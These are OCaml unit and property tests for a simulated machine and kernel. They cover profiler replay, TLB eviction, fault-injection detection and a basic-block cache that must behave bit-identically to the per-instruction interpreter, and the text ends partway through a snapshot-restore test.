  let os' = Workload.Harness.build spec in
  Snap.Snapshot.restore os' snap;
  let prof' =
    match Prof.rearm os' snap with
    | Some p -> p
    | None -> Alcotest.fail "snapshot carries no profiler state"
  in
  ignore (run_to_end os' : Kernel.Os.stop_reason);
  Alcotest.(check string) "replayed report" reference (profile_report prof');
  Alcotest.(check bool) "machine state" true (final_state os = final_state os')

(* --- Fleet determinism ----------------------------------------------------- *)

let test_sweep_jobs_invariant () =
  let sweep jobs =
    Prof.Experiments.render_tlb_sweep
      (Prof.Experiments.tlb_sweep ~jobs ~capacities:[ 2; 16 ] ())
  in
  let j1 = sweep 1 in
  Alcotest.(check string) "-j4 = -j1" j1 (sweep 4);
  Alcotest.(check bool) "sweep nonempty" true (String.length j1 > 0)

(* --- TLB replacement policy ------------------------------------------------ *)

let entry vpn frame = { Hw.Tlb.vpn; frame; user = true; writable = true; nx = false }

let test_lru_keeps_touched () =
  let lru = Hw.Tlb.create ~policy:Hw.Tlb.Lru ~name:"t" ~capacity:2 () in
  Hw.Tlb.insert lru (entry 1 10);
  Hw.Tlb.insert lru (entry 2 20);
  ignore (Hw.Tlb.lookup lru 1 : Hw.Tlb.entry option);
  Hw.Tlb.insert lru (entry 3 30);
  Alcotest.(check bool) "lru keeps 1" true (Hw.Tlb.peek lru 1 <> None);
  Alcotest.(check bool) "lru evicts 2" true (Hw.Tlb.peek lru 2 = None);
  let fifo = Hw.Tlb.create ~name:"t" ~capacity:2 () in
  Hw.Tlb.insert fifo (entry 1 10);
  Hw.Tlb.insert fifo (entry 2 20);
  ignore (Hw.Tlb.lookup fifo 1 : Hw.Tlb.entry option);
  Hw.Tlb.insert fifo (entry 3 30);
  Alcotest.(check bool) "fifo evicts 1" true (Hw.Tlb.peek fifo 1 = None);
  Alcotest.(check bool) "fifo keeps 2" true (Hw.Tlb.peek fifo 2 <> None)

(* Re-touching one vpn many times must not let the occurrence queue starve
   eviction of the others (the compaction path). *)
let test_lru_hot_loop () =
  let t = Hw.Tlb.create ~policy:Hw.Tlb.Lru ~name:"t" ~capacity:2 () in
  Hw.Tlb.insert t (entry 1 10);
  Hw.Tlb.insert t (entry 2 20);
  for _ = 1 to 100 do
    ignore (Hw.Tlb.lookup t 1 : Hw.Tlb.entry option)
  done;
  Hw.Tlb.insert t (entry 3 30);
  Alcotest.(check bool) "hot stays" true (Hw.Tlb.peek t 1 <> None);
  Alcotest.(check bool) "cold goes" true (Hw.Tlb.peek t 2 = None);
  Alcotest.(check int) "size" 2 (Hw.Tlb.size t)

(* --- Golden report ---------------------------------------------------------- *)

(* The rendered profile of the pinned ctxsw workload, pinned byte-for-byte
   (regenerate with REGEN_GOLDEN=test/golden dune exec test/test_main.exe
   -- test prof). Any change to the sampler's decimation, the cost model's
   cycle stamps or the report renderers shows up here. *)
let read_file path =
  let ic = open_in_bin path in
  let n = in_channel_length ic in
  let s = really_input_string ic n in
  close_in ic;
  s

let test_golden_profile () =
  let spec =
    Workload.Figures.ctxsw_spec ~defense:Defense.split_standalone ~iters:40
  in
  let prof = ref None in
  let _result, _os =
    Workload.Harness.run_k ~tune:(fun k -> prof := Some (Prof.attach ~rate:64 k)) spec
  in
  let got = profile_report (Option.get !prof) in
  match Sys.getenv_opt "REGEN_GOLDEN" with
  | Some dir ->
    let path = Filename.concat dir "profile-ctxsw.golden" in
    let oc = open_out_bin path in
    output_string oc got;
    close_out oc;
    Fmt.epr "regenerated %s@." path
  | None ->
    let path = Filename.concat "golden" "profile-ctxsw.golden" in
    if not (Sys.file_exists path) then
      Alcotest.failf "missing golden file %s (run with REGEN_GOLDEN)" path;
    Alcotest.(check string) "profile report" (read_file path) got

(* --- Zero-access guards ---------------------------------------------------- *)

let test_hit_rate_guards () =
  let t = Hw.Tlb.create ~name:"t" ~capacity:4 () in
  Alcotest.(check bool) "tlb none" true (Hw.Tlb.hit_rate_opt t = None);
  let c = Hw.Cache.create ~name:"c" ~lines:4 () in
  Alcotest.(check bool) "cache none" true (Hw.Cache.hit_rate_opt c = None);
  Alcotest.(check string) "nan" "-" (Report.percent (0. /. 0.));
  Alcotest.(check string) "inf" "-" (Report.percent (1. /. 0.));
  Alcotest.(check string) "opt none" "-" (Report.percent_opt None);
  Alcotest.(check string) "opt some" "50%" (Report.percent_opt (Some 0.5))

let suite =
  [
    QCheck_alcotest.to_alcotest prop_profiler_invisible;
    Alcotest.test_case "sampler state round-trips exactly" `Quick test_sampler_roundtrip;
    Alcotest.test_case "checkpoint/rearm replay renders identically" `Quick
      test_replay_identical;
    Alcotest.test_case "tlb sweep is -j invariant" `Slow test_sweep_jobs_invariant;
    Alcotest.test_case "golden profile report (ctxsw, rate 64)" `Quick
      test_golden_profile;
    Alcotest.test_case "lru keeps touched entries, fifo does not" `Quick
      test_lru_keeps_touched;
    Alcotest.test_case "lru survives a hot lookup loop" `Quick test_lru_hot_loop;
    Alcotest.test_case "zero-access hit rates render as '-'" `Quick test_hit_rate_guards;
  ]
