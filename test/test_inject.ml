(* The fault-injection subsystem (lib/inject).

   The foundation is the null-effect property: an armed engine whose plan
   never fires leaves a run bit-identical to an unarmed one — the
   differential oracle is meaningless without it, so it is property-tested
   across defenses, guests and never-firing modes. On top of that, per-class
   unit tests pin the detection semantics (a phantom ITLB entry is caught at
   translation time, a data-copy flip never reaches the fetch path, the
   kernel contains allocator exhaustion and restarts squeezed syscalls), the
   seed-7 campaign must have zero escaped verdicts at any -j, and the
   rendered summary is pinned by a golden file (regenerate with
   REGEN_GOLDEN=test/golden dune exec test/test_main.exe -- test inject). *)

let run_to_end os = Kernel.Os.run ~fuel:2_000_000 os

let final_state os =
  let c = Kernel.Os.cost os in
  ( (c.cycles, c.insns, c.traps, c.split_faults, c.single_steps, c.syscalls, c.ctx_switches),
    List.map
      (Fmt.str "%a" Kernel.Event_log.pp_event)
      (Kernel.Event_log.to_list (Kernel.Os.log os)) )

(* The guest-visible event log: everything except the injection subsystem's
   own detection records. Fault-containment tests compare this against the
   fault-free twin — detection is allowed to add events, never to change
   what the guest did. *)
let guest_events os =
  List.filter_map
    (fun e ->
      match e with
      | Kernel.Event_log.Fault_detected _ -> None
      | e -> Some (Fmt.str "%a" Kernel.Event_log.pp_event e))
    (Kernel.Event_log.to_list (Kernel.Os.log os))

let scenario name =
  match Snap.Scenario.find name with
  | Some s -> s
  | None -> Alcotest.failf "unknown scenario %s" name

(* --- Plan serialization --------------------------------------------------- *)

let test_plan_roundtrip () =
  let plans =
    [
      Inject.Plan.make ();
      Inject.Plan.make ~label:"x" ~scenario:"attack-break" ~seed:123
        ~classes:[ Inject.Plan.Tlb_phantom; Inject.Plan.Pte_flip ]
        ~at_cycle:5 ~every:0 ~pid:2 ~vpn:0x8048 ~budget:9 ~fuel:777 ();
    ]
  in
  List.iter
    (fun p ->
      let p' = Inject.Plan.of_string (Inject.Plan.to_string p) in
      Alcotest.(check string) "round trip" (Inject.Plan.to_string p)
        (Inject.Plan.to_string p');
      Alcotest.(check bool) "equal" true (p = p'))
    plans;
  List.iter
    (fun c ->
      Alcotest.(check bool)
        (Inject.Plan.class_name c) true
        (Inject.Plan.class_of_name (Inject.Plan.class_name c) = Some c))
    Inject.Plan.all_classes

(* --- The null-effect property --------------------------------------------- *)

(* A never-firing plan: budget zero, an unreachable trigger cycle, or a pid
   no process ever has. Armed or not, the run must be bit-identical —
   including cycle counts — across random guests and defenses. *)

type never = Zero_budget | Far_cycle | No_such_pid

let never_plan = function
  | Zero_budget -> Inject.Plan.make ~budget:0 ()
  | Far_cycle -> Inject.Plan.make ~at_cycle:1_000_000_000 ()
  | No_such_pid -> Inject.Plan.make ~pid:999 ()

let gen_spec =
  QCheck.Gen.(
    let* defense = oneofl [ Defense.unprotected; Defense.nx; Defense.split_standalone ] in
    let* guest =
      oneof
        [
          map (fun iters -> Workload.Guests.nbench ~iters ()) (int_range 1 4);
          map (fun size -> Workload.Guests.gzip ~size ()) (int_range 512 2048);
          map (fun iters -> Workload.Guests.syscall_bench ~iters ()) (int_range 5 40);
        ]
    in
    let* mode = oneofl [ Zero_budget; Far_cycle; No_such_pid ] in
    return (defense, guest, mode))

let print_spec (defense, guest, mode) =
  Fmt.str "%s/%s/%s" (Defense.name defense) guest.Kernel.Image.name
    (match mode with
    | Zero_budget -> "zero-budget"
    | Far_cycle -> "far-cycle"
    | No_such_pid -> "no-such-pid")

let prop_null_effect =
  QCheck.Test.make ~name:"never-firing engine is bit-invisible" ~count:30
    (QCheck.make ~print:print_spec gen_spec)
    (fun (defense, guest, mode) ->
      let spec = Workload.Harness.single ~defense guest in
      let base = Workload.Harness.build spec in
      ignore (run_to_end base : Kernel.Os.stop_reason);
      let os = Workload.Harness.build spec in
      let eng = Inject.Engine.arm os (never_plan mode) in
      ignore (run_to_end os : Kernel.Os.stop_reason);
      Inject.Engine.injected_count eng = 0
      && Inject.Engine.detections eng = 0
      && final_state base = final_state os)

(* --- Per-class detection semantics ----------------------------------------- *)

(* Find the split PTE backing the page the current process is executing:
   the next instruction fetch goes through it, so a fault planted there is
   exercised immediately. *)
let executing_split_pte os =
  let procs = List.filter Kernel.Proc.is_runnable (Kernel.Os.procs os) in
  List.find_map
    (fun (p : Kernel.Proc.t) ->
      let vpn = p.regs.eip / Kernel.Os.page_size os in
      match Kernel.Aspace.pte p.aspace vpn with
      | Some pte when Split_memory.Splitter.is_active_split pte -> Some (p, pte)
      | _ -> None)
    procs

(* A phantom ITLB entry routing fetches at the data copy of a protected
   page — the desync a missed invlpg would leave behind — must be rejected
   by the TLB guard at translation time, before the stale fetch retires:
   one detection on the very next instruction, and the guest's own event
   log stays identical to the fault-free twin. *)
let test_phantom_detected_before_retire () =
  let s = scenario "benign" in
  let base = s.start () in
  ignore (run_to_end base : Kernel.Os.stop_reason);
  let os = s.start () in
  ignore (Kernel.Os.run ~fuel:800 os : Kernel.Os.stop_reason);
  let eng = Inject.Engine.arm os (Inject.Plan.make ~budget:0 ()) in
  let p, pte =
    match executing_split_pte os with
    | Some x -> x
    | None -> Alcotest.fail "no active split code page mid-run"
  in
  Hw.Tlb.insert
    (Hw.Mmu.itlb (Kernel.Os.mmu os))
    {
      vpn = pte.vpn;
      frame = Kernel.Pte.data_frame pte;
      user = true;
      writable = pte.writable;
      nx = false;
    };
  ignore p;
  Alcotest.(check int) "no detections yet" 0 (Inject.Engine.detections eng);
  ignore (Kernel.Os.run ~fuel:1 os : Kernel.Os.stop_reason);
  Alcotest.(check int)
    "phantom caught on the very next fetch" 1
    (Inject.Engine.detections eng);
  ignore (run_to_end os : Kernel.Os.stop_reason);
  Alcotest.(check (list string))
    "guest behaviour identical to the twin" (guest_events base) (guest_events os)

(* A bit flip in the data copy of a split page must never reach the fetch
   path: the code copy's bytes are untouched and the guest completes
   exactly like the twin. Injected through the engine (trigger pinned to
   the executing page's vpn) so the ECC bookkeeping is exercised too. *)
let test_data_flip_never_in_fetch_path () =
  let s = scenario "benign" in
  let base = s.start () in
  ignore (run_to_end base : Kernel.Os.stop_reason);
  let os = s.start () in
  ignore (Kernel.Os.run ~fuel:800 os : Kernel.Os.stop_reason);
  let _, pte =
    match executing_split_pte os with
    | Some x -> x
    | None -> Alcotest.fail "no active split code page mid-run"
  in
  let code_frame = Kernel.Pte.code_frame pte in
  let phys = Kernel.Os.phys os in
  let code_before = Hw.Phys.to_string phys ~frame:code_frame in
  let eng =
    Inject.Engine.arm os
      (Inject.Plan.make
         ~classes:[ Inject.Plan.Frame_flip_data ]
         ~at_cycle:0 ~every:0 ~vpn:pte.vpn ~budget:1 ())
  in
  ignore (run_to_end os : Kernel.Os.stop_reason);
  Alcotest.(check int) "one fault injected" 1 (Inject.Engine.injected_count eng);
  (match Inject.Engine.injected eng with
  | [ i ] ->
    Alcotest.(check bool)
      (Fmt.str "targeted the data copy (%s)" i.i_detail)
      true
      (i.i_class = Inject.Plan.Frame_flip_data)
  | l -> Alcotest.failf "expected 1 injection record, got %d" (List.length l));
  Alcotest.(check string)
    "code copy bytes untouched" code_before
    (Hw.Phys.to_string phys ~frame:code_frame);
  Alcotest.(check (list string))
    "guest behaviour identical to the twin" (guest_events base) (guest_events os)

(* Allocator exhaustion: a denial that lands on a live allocation surfaces
   as Out_of_frames at the trap boundary and the kernel contains it —
   oom-kill with a Fault_detected record, never a crash of the kernel
   itself. The engine's injector fires at scheduler boundaries (the first
   quantum ends after benign's demand paging is done), so the denial is
   installed directly here to guarantee it lands on a live allocation. *)
let test_oom_containment () =
  let s = scenario "benign" in
  let os = s.start () in
  Kernel.Frame_alloc.set_deny_next (Kernel.Os.alloc os) 4;
  ignore (run_to_end os : Kernel.Os.stop_reason);
  let oom =
    Kernel.Event_log.count (Kernel.Os.log os) (function
      | Kernel.Event_log.Fault_detected { kind = "oom"; _ } -> true
      | _ -> false)
  in
  Alcotest.(check bool) "oom containment fired" true (oom > 0);
  (* every process account for: exited or killed, none left running *)
  List.iter
    (fun (p : Kernel.Proc.t) ->
      Alcotest.(check bool)
        (Fmt.str "pid %d settled" p.pid)
        true
        (Kernel.Proc.is_zombie p))
    (Kernel.Os.procs os)

(* A squeezed syscall is restarted transparently: same guest events and
   stop reason as the twin, only the cycle count shows the retries. *)
let test_syscall_squeeze_restart () =
  let v =
    Inject.run_plan
      (Inject.Plan.make ~label:"squeeze" ~scenario:"benign" ~seed:7
         ~classes:[ Inject.Plan.Syscall_transient ] ())
  in
  Alcotest.(check bool) "faults injected" true (v.v_injected > 0);
  Alcotest.(check string) "masked" "masked" (Inject.outcome_name v.v_outcome);
  Alcotest.(check bool) "event log identical" true v.v_events_match;
  Alcotest.(check bool) "retries cost cycles" true (v.v_cycles > v.v_base_cycles);
  Alcotest.(check string) "same stop reason" v.v_base_stop v.v_stop

let test_alloc_denial_mechanism () =
  let phys = Hw.Phys.create ~frames:8 () in
  let alloc = Kernel.Frame_alloc.create phys in
  Kernel.Frame_alloc.set_deny_next alloc 2;
  let denied () =
    match Kernel.Frame_alloc.alloc alloc with
    | exception Kernel.Frame_alloc.Out_of_frames -> true
    | _ -> false
  in
  Alcotest.(check bool) "first denied" true (denied ());
  Alcotest.(check bool) "second denied" true (denied ());
  Alcotest.(check bool) "third succeeds" false (denied ());
  Alcotest.(check int) "counter drained" 0 (Kernel.Frame_alloc.deny_next alloc)

(* --- The campaign ---------------------------------------------------------- *)

let test_campaign_zero_escaped () =
  let verdicts = Inject.campaign ~jobs:2 (Inject.default_plans ~seed:7 ()) in
  Alcotest.(check int) "12 plans" 12 (List.length verdicts);
  List.iter
    (fun (v : Inject.verdict) ->
      Alcotest.(check bool)
        (Fmt.str "%s fired" v.v_label)
        true (v.v_injected > 0))
    verdicts;
  Alcotest.(check (list string)) "zero escaped" []
    (List.map (fun (v : Inject.verdict) -> v.v_label) (Inject.escaped verdicts));
  let detected, masked, escaped, clean = Inject.tally verdicts in
  Alcotest.(check int) "tally covers all plans" 12 (detected + masked + escaped + clean);
  Alcotest.(check int) "no clean runs (every plan fired)" 0 clean;
  (* the TLB classes must be caught by the guard on at least one scenario *)
  List.iter
    (fun cls ->
      let hit =
        List.exists
          (fun (v : Inject.verdict) ->
            v.v_classes = Inject.Plan.class_name cls && v.v_outcome = Inject.Detected)
          verdicts
      in
      Alcotest.(check bool)
        (Fmt.str "%s detected somewhere" (Inject.Plan.class_name cls))
        true hit)
    [ Inject.Plan.Tlb_wrong_pfn; Inject.Plan.Tlb_wrong_perms; Inject.Plan.Tlb_phantom ]

let test_campaign_jobs_deterministic () =
  let plans = Inject.default_plans ~seed:11 () in
  let s1 = Inject.summary_string (Inject.campaign ~jobs:1 plans) in
  let s4 = Inject.summary_string (Inject.campaign ~jobs:4 plans) in
  Alcotest.(check string) "summary identical at -j1 and -j4" s1 s4

(* --- Golden summary (the `simctl inject --seed 7` output) ------------------ *)

let read_file path =
  let ic = open_in_bin path in
  let n = in_channel_length ic in
  let s = really_input_string ic n in
  close_in ic;
  s

let test_golden_summary () =
  let got = Inject.summary_string (Inject.campaign ~jobs:2 (Inject.default_plans ~seed:7 ())) in
  match Sys.getenv_opt "REGEN_GOLDEN" with
  | Some dir ->
    let path = Filename.concat dir "inject-seed7.golden" in
    let oc = open_out_bin path in
    output_string oc got;
    close_out oc;
    Fmt.epr "regenerated %s@." path
  | None ->
    let path = Filename.concat "golden" "inject-seed7.golden" in
    if not (Sys.file_exists path) then
      Alcotest.failf "missing golden file %s (run with REGEN_GOLDEN)" path;
    let want = read_file path in
    if got <> want then begin
      let split s = String.split_on_char '\n' s in
      let rec first_diff i = function
        | [], [] -> None
        | a :: _, [] -> Some (i, a, "<missing>")
        | [], b :: _ -> Some (i, "<missing>", b)
        | a :: ta, b :: tb -> if a <> b then Some (i, a, b) else first_diff (i + 1) (ta, tb)
      in
      match first_diff 1 (split want, split got) with
      | Some (ln, w, g) ->
        Alcotest.failf "summary mismatch at line %d:@.  golden: %s@.  got:    %s" ln w g
      | None -> Alcotest.fail "summary mismatch (whitespace only?)"
    end

let suite =
  [
    Alcotest.test_case "plan serialization round trip" `Quick test_plan_roundtrip;
    QCheck_alcotest.to_alcotest prop_null_effect;
    Alcotest.test_case "phantom ITLB entry caught before retire" `Quick
      test_phantom_detected_before_retire;
    Alcotest.test_case "data-copy flip never reaches the fetch path" `Quick
      test_data_flip_never_in_fetch_path;
    Alcotest.test_case "allocator exhaustion is contained (oom-kill)" `Quick
      test_oom_containment;
    Alcotest.test_case "squeezed syscall restarts transparently" `Quick
      test_syscall_squeeze_restart;
    Alcotest.test_case "frame allocator denial mechanism" `Quick
      test_alloc_denial_mechanism;
    Alcotest.test_case "seed-7 campaign: zero escaped" `Quick test_campaign_zero_escaped;
    Alcotest.test_case "campaign summary identical across -j" `Quick
      test_campaign_jobs_deterministic;
    Alcotest.test_case "golden summary (simctl inject --seed 7)" `Quick
      test_golden_summary;
  ]
