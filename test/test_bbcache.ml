(* The decoded basic-block cache (lib/hw/bbcache) and its dispatch path.

   The contract under test is run_block's bit-exactness pledge: with the
   cache on, every observable — event log, every cost counter, both TLB
   statistics, the detection verdicts of the defense x attack matrix and
   of the seed-7 fault-injection campaign — must equal the
   per-instruction interpreter's, byte for byte. Around the differential
   property: page-edge block construction (the once-"unreachable"
   [Truncated] decode arm is now exercised, and the negative-block
   fallback must stay exact), generation-based invalidation under
   self-modifying stores, [Tlb.note_hits] parity with individual finds
   including LRU recency, and snapshot restore treating the cache as
   derived state. *)

let run_to_end os = Kernel.Os.run ~fuel:2_000_000 os

let final_state os =
  let c = Kernel.Os.cost os in
  let tlb t =
    let s = Hw.Tlb.stats t in
    (s.Hw.Tlb.hits, s.misses, s.flushes, s.invalidations, s.evictions)
  in
  let mmu = Kernel.Os.mmu os in
  ( (c.cycles, c.insns, c.traps, c.split_faults, c.single_steps, c.syscalls, c.ctx_switches),
    (tlb (Hw.Mmu.itlb mmu), tlb (Hw.Mmu.dtlb mmu)),
    List.map
      (Fmt.str "%a" Kernel.Event_log.pp_event)
      (Kernel.Event_log.to_list (Kernel.Os.log os)) )

let with_bbcache enabled f =
  let saved = !Kernel.Machine.bbcache_default in
  Kernel.Machine.bbcache_default := enabled;
  Fun.protect ~finally:(fun () -> Kernel.Machine.bbcache_default := saved) f

(* Build and run the same spec twice — block dispatch on, then off. *)
let run_both spec =
  let go enabled =
    with_bbcache enabled (fun () ->
        let os = Workload.Harness.build spec in
        ignore (run_to_end os : Kernel.Os.stop_reason);
        os)
  in
  (go true, go false)

(* --- The differential property -------------------------------------------- *)

let gen_spec =
  QCheck.Gen.(
    let* defense =
      oneofl
        [ Defense.unprotected; Defense.nx; Defense.split_standalone; Defense.split_plus_cfi ]
    in
    let* guest =
      oneof
        [
          map (fun iters -> Workload.Guests.nbench ~iters ()) (int_range 1 4);
          map (fun size -> Workload.Guests.gzip ~size ()) (int_range 512 2048);
          map (fun iters -> Workload.Guests.syscall_bench ~iters ()) (int_range 5 40);
        ]
    in
    return (defense, guest))

let print_spec (defense, guest) =
  Fmt.str "%s/%s" (Defense.name defense) guest.Kernel.Image.name

let prop_bbcache_invisible =
  QCheck.Test.make ~name:"block dispatch is bit-invisible" ~count:30
    (QCheck.make ~print:print_spec gen_spec)
    (fun (defense, guest) ->
      let on, off = run_both (Workload.Harness.single ~defense guest) in
      final_state on = final_state off)

(* --- Golden scenarios on/off ---------------------------------------------- *)

let golden_specs =
  [
    ("apache/split", Workload.Figures.apache_spec ~defense:Defense.split_standalone ~size:2048 ~requests:3);
    ("gzip/nx", Workload.Figures.gzip_spec ~defense:Defense.nx ~size:8192);
    ("ctxsw/split", Workload.Figures.ctxsw_spec ~defense:Defense.split_standalone ~iters:40);
    ("ctxsw/split+cfi", Workload.Figures.ctxsw_spec ~defense:Defense.split_plus_cfi ~iters:25);
    ("nbench/unprotected", Workload.Harness.single ~defense:Defense.unprotected (Workload.Guests.nbench ~iters:2 ()));
  ]

let test_goldens_on_off () =
  List.iter
    (fun (name, spec) ->
      let on, off = run_both spec in
      Alcotest.(check bool) (name ^ " identical on/off") true (final_state on = final_state off))
    golden_specs

(* The cache must actually be live under the protected scenarios above —
   a trivially-disabled cache would pass every differential test. *)
let test_cache_engaged () =
  let on, _ =
    run_both (Workload.Figures.ctxsw_spec ~defense:Defense.split_standalone ~iters:40)
  in
  match Kernel.Os.bbcache on with
  | None -> Alcotest.fail "bbcache missing with default on"
  | Some c ->
    let s = Hw.Bbcache.stats c in
    Alcotest.(check bool) "blocks built" true (s.Hw.Bbcache.blocks_built > 0);
    Alcotest.(check bool) "block hits" true (s.hits > 0)

(* --- Detection modes on/off ----------------------------------------------- *)

(* All 30 defense x attack matrix cells — injection and code-reuse rows —
   must produce identical outcomes with block dispatch on and off. *)
let test_matrix_on_off () =
  let cells enabled = with_bbcache enabled (fun () -> Reuse.Campaign.matrix ~jobs:2 ()) in
  let on = cells true and off = cells false in
  Alcotest.(check int) "30 cells" 30 (List.length on);
  Alcotest.(check bool) "matrix identical on/off" true (on = off);
  Alcotest.(check bool) "matrix matches threat model" true (Reuse.Campaign.check on)

(* The seed-7 fault-injection campaign: every verdict field — outcome,
   injected-fault details, detector firings, twin-comparison bits, base
   cycle counts — identical under block dispatch. *)
let test_inject_on_off () =
  let verdicts enabled =
    with_bbcache enabled (fun () ->
        Inject.campaign ~jobs:2 (Inject.default_plans ~seed:7 ()))
  in
  let on = verdicts true and off = verdicts false in
  Alcotest.(check int) "12 plans" 12 (List.length on);
  Alcotest.(check bool) "verdicts identical on/off" true (on = off);
  let _, _, escaped, _ = Inject.tally on in
  Alcotest.(check int) "no escapes" 0 escaped

(* --- Page-edge blocks and the negative-block fallback ---------------------- *)

(* An instruction whose encoding crosses a code-page boundary: 4093 one-
   byte nops fill page 0 up to offset 4093, then a 6-byte [mov ecx, imm]
   occupies bytes 4093..4098 — three bytes in vpn 0, three in vpn 1. The
   block builder must end the page-0 block before it (the [Truncated]
   decode arm), cache a negative block at its pa0, and dispatch must
   retire it through the exact byte-at-a-time fallback. *)
let straddle_program =
  let open Isa.Asm in
  List.init 4093 (fun _ -> I Isa.Insn.Nop)
  @ [ I (Mov_ri (ECX, 0x11223344)); I (Mov_ri (EDX, 0x55667788)); I Hlt ]

let straddle_fixture () =
  let phys = Hw.Phys.create ~frames:8 () in
  let cost = Hw.Cost.create () in
  let mmu = Hw.Mmu.create ~itlb_capacity:16 ~dtlb_capacity:16 ~phys ~cost () in
  let a = Isa.Asm.assemble ~origin:0 straddle_program in
  Hw.Phys.blit_from_string phys ~frame:1 ~off:0 (String.sub a.code 0 4096);
  Hw.Phys.blit_from_string phys ~frame:2 ~off:0
    (String.sub a.code 4096 (String.length a.code - 4096));
  let table : (int, Hw.Mmu.hw_pte) Hashtbl.t = Hashtbl.create 4 in
  Hashtbl.replace table 0
    { Hw.Mmu.frame = 1; present = true; writable = true; user = true; nx = false };
  Hashtbl.replace table 1
    { Hw.Mmu.frame = 2; present = true; writable = true; user = true; nx = false };
  Hw.Mmu.reload_cr3 mmu (fun vpn -> Hashtbl.find_opt table vpn);
  (phys, mmu, Hw.Cpu.create_regs (), a)

let test_page_straddle () =
  (* the decoder itself: operands past the page edge are [Truncated] *)
  let _, _, _, a = straddle_fixture () in
  (match Isa.Decode.of_string (String.sub a.code 0 4096) 4093 with
  | Error Isa.Decode.Truncated -> ()
  | _ -> Alcotest.fail "straddling insn must decode as Truncated at the page edge");
  (* reference: the per-instruction interpreter *)
  let _, mmu_ref, regs_ref, _ = straddle_fixture () in
  let retired_ref = ref 0 in
  let rec step_all () =
    match (Hw.Cpu.step mmu_ref regs_ref).outcome with
    | Ok Hw.Cpu.Retired ->
      incr retired_ref;
      step_all ()
    | Error (Hw.Cpu.General_protection _) -> () (* hlt *)
    | _ -> Alcotest.fail "reference run: unexpected outcome"
  in
  step_all ();
  (* block dispatch over the same image *)
  let phys, mmu, regs, _ = straddle_fixture () in
  let cache = Hw.Bbcache.create ~phys () in
  let env = Hw.Exec_env.create () in
  env.Hw.Exec_env.cache <- Some cache;
  let retired = ref 0 in
  let rec drive () =
    let br = Hw.Cpu.run_block env mmu regs ~max_insns:10_000 ~tick_limit:max_int in
    retired := !retired + br.Hw.Cpu.retired;
    match br.pending with
    | None -> drive ()
    | Some s -> (
      match s.outcome with
      | Error (Hw.Cpu.General_protection _) -> ()
      | _ -> Alcotest.fail "block run: unexpected pending step")
  in
  drive ();
  Alcotest.(check int) "same retire count" !retired_ref !retired;
  Alcotest.(check int) "ecx" 0x11223344 (Hw.Cpu.get regs Isa.Reg.ECX);
  Alcotest.(check int) "edx" 0x55667788 (Hw.Cpu.get regs Isa.Reg.EDX);
  Alcotest.(check int) "same eip" regs_ref.Hw.Cpu.eip regs.Hw.Cpu.eip;
  (* the straddler's pa0 is cached as a negative block *)
  let b = Hw.Bbcache.lookup cache ((1 * 4096) + 4093) in
  Alcotest.(check int) "negative block at the straddle pc" 0 b.Hw.Bbcache.n

(* --- Self-modifying code: generation-based invalidation -------------------- *)

let test_smc_invalidation () =
  let phys = Hw.Phys.create ~frames:4 () in
  let cache = Hw.Bbcache.create ~phys () in
  let a = Isa.Asm.assemble ~origin:0 Isa.Asm.[ I (Mov_ri (EAX, 1)); I Hlt ] in
  Hw.Phys.blit_from_string phys ~frame:2 ~off:0 a.code;
  let pa0 = 2 * Hw.Phys.page_size phys in
  let b = Hw.Bbcache.lookup cache pa0 in
  Alcotest.(check int) "two insns (hlt ends the block)" 2 b.Hw.Bbcache.n;
  Alcotest.(check bool) "decoded imm" true (b.insns.(0) = Isa.Insn.Mov_ri (Isa.Reg.EAX, 1));
  let s = Hw.Bbcache.stats cache in
  Alcotest.(check int) "cold miss" 1 s.Hw.Bbcache.misses;
  ignore (Hw.Bbcache.lookup cache pa0 : Hw.Bbcache.block);
  Alcotest.(check int) "warm hit" 1 s.hits;
  (* a store into the watched frame bumps the generation... *)
  Hw.Phys.write8 phys ~frame:2 ~off:2 0x2A;
  Alcotest.(check int) "invalidation fired" 1 s.invalidations;
  Alcotest.(check bool) "block is stale" true (Hw.Bbcache.stale cache b);
  (* ...and the rebuilt block decodes the patched bytes *)
  let b' = Hw.Bbcache.lookup cache pa0 in
  Alcotest.(check int) "stale miss" 2 s.misses;
  Alcotest.(check bool) "patched imm visible" true
    (b'.insns.(0) = Isa.Insn.Mov_ri (Isa.Reg.EAX, 0x2A));
  Alcotest.(check bool) "rebuilt block is fresh" false (Hw.Bbcache.stale cache b');
  (* writes to frames backing no block stay invisible to the watch *)
  Hw.Phys.write8 phys ~frame:0 ~off:0 7;
  Alcotest.(check int) "unwatched frame: no invalidation" 1 s.invalidations;
  (* clear drops blocks but keeps generations monotonic *)
  Hw.Bbcache.clear cache;
  ignore (Hw.Bbcache.lookup cache pa0 : Hw.Bbcache.block);
  Alcotest.(check int) "clear forces rebuild" 3 s.misses

(* --- Tlb.note_hits parity -------------------------------------------------- *)

(* [note_hits t vpn n] must equal n consecutive [find]s: same hit
   statistics and, under LRU, the same recency order (so the same
   survivors after evicting inserts). *)
let test_note_hits_parity () =
  let mk () = Hw.Tlb.create ~policy:Hw.Tlb.Lru ~name:"t" ~capacity:4 () in
  let entry vpn : Hw.Tlb.entry =
    { vpn; frame = vpn + 10; user = true; writable = true; nx = false }
  in
  let a = mk () and b = mk () in
  List.iter
    (fun v ->
      Hw.Tlb.insert a (entry v);
      Hw.Tlb.insert b (entry v))
    [ 1; 2; 3; 4 ];
  for _ = 1 to 5 do
    ignore (Hw.Tlb.find a 2 : Hw.Tlb.entry)
  done;
  Hw.Tlb.note_hits b 2 5;
  let sa = Hw.Tlb.stats a and sb = Hw.Tlb.stats b in
  Alcotest.(check int) "same hits" sa.Hw.Tlb.hits sb.Hw.Tlb.hits;
  Alcotest.(check int) "same misses" sa.misses sb.misses;
  (* vpn 2 is now the hottest entry in both; evicting inserts must pick
     the same victims *)
  List.iter
    (fun v ->
      Hw.Tlb.insert a (entry v);
      Hw.Tlb.insert b (entry v))
    [ 5; 6; 7 ];
  List.iter
    (fun v ->
      Alcotest.(check bool)
        (Fmt.str "vpn %d residency matches" v)
        (Hw.Tlb.peek a v <> None)
        (Hw.Tlb.peek b v <> None))
    [ 1; 2; 3; 4; 5; 6; 7 ];
  Alcotest.(check bool) "hot vpn survives in both" true (Hw.Tlb.peek b 2 <> None)

(* --- Snapshot restore drops the cache -------------------------------------- *)

(* The cache is derived state: restore refills frames, so any block the
   target machine decoded before the restore describes bytes that no
   longer exist. Restoring into a machine that has already run (and
   cached blocks from its own, different history) must still replay the
   reference run bit-exactly. *)
let test_restore_drops_cache () =
  with_bbcache true (fun () ->
      let spec = Workload.Figures.ctxsw_spec ~defense:Defense.split_standalone ~iters:40 in
      let reference = Workload.Harness.build spec in
      ignore (run_to_end reference : Kernel.Os.stop_reason);
